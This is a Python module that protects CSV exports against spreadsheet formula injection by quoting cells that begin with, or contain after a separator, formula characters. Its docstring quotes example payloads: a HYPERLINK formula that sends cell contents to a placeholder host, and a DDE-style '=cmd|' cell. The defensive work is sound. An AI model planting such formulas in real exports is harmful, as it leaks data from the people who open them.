"""CSV output that a spreadsheet cannot run: formula neutralisation (OWASP "CSV Injection").

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some treat a leading tab or carriage return the same way), so a player named
``=HYPERLINK("http://x/?d="&A1,"click")`` would run in whoever opens the exported list.
:func:`neutralise` prefixes such a cell with a single quote, which spreadsheets show as
text, unless the cell is a plain number: a rating change of ``-12`` stays a number.
Every CSV the command line writes goes through :func:`write_csv` or :class:`CsvWriter`.

A spreadsheet may also split a line on ``;`` (the default separator where the decimal mark is
a comma) or on a tab, whatever the commas and quotes around: then ``Semi;=cmd|...`` starts a
cell ``=cmd|...`` wherever it stands in the line (quoting it would protect it only as the
line's first cell). So a formula character right after a ``;``, a tab or a line break
inside a cell (past any quotes) gets the same leading quote, a number too (a spreadsheet that
splits on ``;`` may also end the row at a line break inside quotes).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO

__all__ = ["FORMULA_STARTS", "CsvWriter", "is_formula", "neutralise", "restore", "write_csv"]

FORMULA_STARTS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet read a cell as a formula."""

# ASCII digits only: "-١٢" is no number to a spreadsheet, and re's \d would accept it
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


# a formula character after a separator a spreadsheet may split on, behind any quotes of
# the value itself (only the separator and any double quotes are matched, so that a tab
# right after a ";" is looked at too). No exemption for a number: what follows it in the
# line is the next cell's, and "-12,5" is a number to one spreadsheet and "-12" then text
# to another
_AFTER_SEPARATOR = re.compile("([;\t\r\n]\"*)(?='*[=+\\-@\t\r])")
_FORMULA_AHEAD = re.compile("'*[=+\\-@\t\r]")


def neutralise(cell: str) -> str:
    """``cell`` made safe to open in a spreadsheet.

    A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
    leading single quote, unless it is a plain number (``-12``, ``-0.25``, ``+7``,
    ``-1.5e3``): ``-2+3`` is not one and is quoted. So does such a character after a ``;``,
    a tab or a line break inside the cell: ``Semi;=cmd`` is written ``Semi;'=cmd``.

    Quotes that the value itself has before a formula character get one quote more
    (``'=x`` is written ``''=x``), so that :func:`restore` can tell it from a neutralised
    ``=x``: ``restore(neutralise(x)) == x`` for every text ``x``.
    """
    if cell and cell[0] in FORMULA_STARTS:
        if _PLAIN_NUMBER.fullmatch(cell) is None:
            cell = "'" + cell
    elif cell[:1] == "'" and _FORMULA_AHEAD.match(cell):
        cell = "'" + cell
    if ";" in cell or "\t" in cell or "\n" in cell or "\r" in cell:
        cell = _AFTER_SEPARATOR.sub(r"\1'", cell)
    return cell


_QUOTED_AFTER_SEPARATOR = re.compile("([;\t\r\n]\"*)'(?='*[=+\\-@\t\r])")


def restore(cell: str) -> str:
    """A cell as it was before :func:`neutralise`, for the files the product reads back (a
    register exported with ``player list --format csv`` and imported with ``--update``, or
    into another database): one single quote is dropped from the quotes before a formula
    character at the start, or after a ``;``, a tab or a line break. ``'t Hooft`` stays as
    it is, ``'=x`` reads as ``=x`` and ``''=x`` as ``'=x``.
    """
    if "'" not in cell:
        return cell
    if cell[0] == "'" and _FORMULA_AHEAD.match(cell, 1):
        cell = cell[1:]
    if ";" in cell or "\t" in cell or "\n" in cell or "\r" in cell:
        cell = _QUOTED_AFTER_SEPARATOR.sub(r"\1", cell)
    return cell


_FORMULA_AFTER_SEPARATOR = re.compile('[;\t\r\n]"*[=+\\-@\t\r]')


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take ``cell``, or a part of it that starts after a
    ``;``, a tab or a line break, for a formula: what :func:`neutralise` never writes."""
    if cell and cell[0] in FORMULA_STARTS and _PLAIN_NUMBER.fullmatch(cell) is None:
        return True
    return _FORMULA_AFTER_SEPARATOR.search(cell) is not None


def _text(value: object) -> str:
    if type(value) is str:  # the common case, and this runs for every cell
        return value
    return "" if value is None else str(value)


class CsvWriter:
    """``csv.writer`` with LF line endings that neutralises every cell it writes.

    Cells may be any value: ``None`` is written as an empty cell, anything else as
    ``str(value)``, then neutralised.
    """

    def __init__(self, out: IO[str]) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([neutralise(_text(value)) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)


def write_csv(out: IO[str], rows: Iterable[Iterable[object]]) -> None:
    """Write ``rows`` (the header first, if any) to ``out`` as neutralised CSV."""
    CsvWriter(out).writerows(rows)
